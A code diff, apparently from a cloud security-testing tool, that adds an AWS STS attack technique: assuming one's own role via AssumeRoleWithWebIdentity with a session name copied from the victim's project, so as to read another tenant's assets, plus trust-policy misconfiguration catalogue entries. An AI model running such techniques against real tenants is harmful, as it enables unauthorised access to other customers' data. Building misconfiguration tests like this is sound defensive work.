@@ -57,6 +57,21 @@ def _with_a_policy_of_ones_own(aim: Aim) -> tuple[Step, ...]:
     return _as_oneself(aim, json.dumps({"Version": "2012-10-17", "Statement": [statement]}))
 
 
+def _named_after_the_victim(aim: Aim) -> tuple[Step, ...]:
+    # The session policy is one's own, so that nothing but the name can open what is the victim's.
+    logins = {aim.deployment.provider: aim.id_token.reveal()}
+
+    def assuming(answer: Mapping[str, Any]) -> ApiRequest:
+        params = web_identity_params(aim.role_of_tenants, answer["Token"], aim.session_policy)
+        return ApiRequest("sts", "AssumeRoleWithWebIdentity", {**params, "RoleSessionName": aim.asset.discriminator})
+
+    return (
+        *_identified(aim.deployment.identity_pool, logins),
+        assuming,
+        lambda answer: ObtainedCall.from_answer(answer, aim.asset.reading),
+    )
+
+
 def _as_a_guest(aim: Aim) -> tuple[Step, ...]:
     return (*_identified(aim.deployment.identity_pool, {}), _assuming(aim.role_of_tenants))
 
@@ -99,12 +114,25 @@ TECHNIQUES = (
         catalogue=("sts-web-identity-wider-policy",),
         steps=_with_a_policy_of_ones_own,
     ),
+    _OWN_ROLE(
+        id="sts.session.named-after-another",
+        title="AssumeRoleWithWebIdentity on one's own role, in a session that is called like the victim's project",
+        documentation="https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_principal.html",
+        catalogue=("sts-role-session-name-static", "s3-bucket-policy-widens"),
+        cwe=("CWE-290", "CWE-639"),
+        steps=_named_after_the_victim,
+    ),
     _ASSUME(
         id="sts.session.web-identity-of-another-pool",
         title="AssumeRoleWithWebIdentity on the role of signed-in users with a token of another identity pool",
         plane="sts",
         documentation=_TRUST,
-        catalogue=("sts-trust-without-aud", "sts-trust-aud-stringlike-wildcard"),
+        catalogue=(
+            "sts-trust-without-aud",
+            "sts-trust-aud-stringlike-wildcard",
+            "sts-trust-user-pool-id-in-aud",
+            "sts-role-shared-across-pools",
+        ),
         cwe=("CWE-287",),
         requires=frozenset({Feature.IDENTITY_POOL, Feature.PERSONA_ROLE}),
         victim=Victim.NOBODY,
